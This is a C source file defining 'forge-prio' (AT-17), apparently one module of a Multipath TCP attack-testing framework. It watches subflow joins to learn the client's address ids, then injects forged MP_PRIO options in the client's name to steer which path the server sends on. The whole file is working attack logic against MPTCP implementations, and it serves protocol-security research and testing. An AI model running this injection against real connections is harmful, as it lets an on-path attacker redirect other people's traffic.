/* SPDX-License-Identifier: MIT */
/*
 * AT-17: MP_PRIO in the client's name, so that the server sends where the
 * attacker wants it to. RFC 6824 lets it name any address of the client's by
 * its id; RFC 8684 only the subflow that carries it.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

enum { IDS = 8 }; /* address ids it tries */

static const char *const names_words[] = {"others", "own", NULL};
enum { NAMES, OWN = 1 };
static const struct atk_param params[] = {
    [NAMES] = {"names", ATK_P_WORD, .words = names_words},
    {.name = NULL},
};

struct state {
    struct atk_flows flows;
    uint8_t id[ATK_FLOWS_MAX]; /* the client's, of each flow */
};

static enum atk_verdict see(struct atk *a, void *state,
                            const struct atk_sight *s, uint64_t now)
{
    struct state *st = state;
    struct atk_watched *f = atk_flows_see(&st->flows, s);
    struct mpx_opt o;

    (void)a;
    (void)now;
    if (f && s->dir == 0 && (s->flags & MPX_TCP_SYN) &&
        atk_opts_find(s, MPX_SUB_JOIN, &o))
        st->id[f - st->flows.v] = o.u.join.addr_id;
    return ATK_PASS;
}

static void ask(struct atk *a, const struct atk_watched *f, bool has_id,
                uint8_t id, uint64_t now)
{
    struct mpx_opt o = {.subtype = MPX_SUB_PRIO, .u.prio = {true, has_id, id}};
    struct atk_opts opts = {0};

    atk_opts_add(&opts, &o);
    atk_flows_inject(a, f, 0, MPX_TCP_ACK, &opts, NULL, 0, now);
}

static void act(struct atk *a, void *state, uint64_t now)
{
    const struct state *st = state;

    for (unsigned i = 0; i < st->flows.n; i++) {
        const struct atk_watched *f = &st->flows.v[i];

        if (!atk_flows_live(f))
            continue;
        if (atk_param(a, NAMES) == OWN)
            ask(a, f, false, 0, now);
        for (uint8_t id = 0; atk_param(a, NAMES) != OWN && id < IDS; id++)
            if (id != st->id[i])
                ask(a, f, true, id, now);
    }
}

const struct atk_ops atk_prio_forge = {
    .name = "forge-prio",
    .id = "AT-17",
    .source = "RFC 6824 and RFC 8684 section 3.3.8; Munir et al. 2017",
    .powers = ATK_READ | ATK_INJECT,
    .params = params,
    .state_size = sizeof(struct state),
    .see = see,
    .act = act,
};
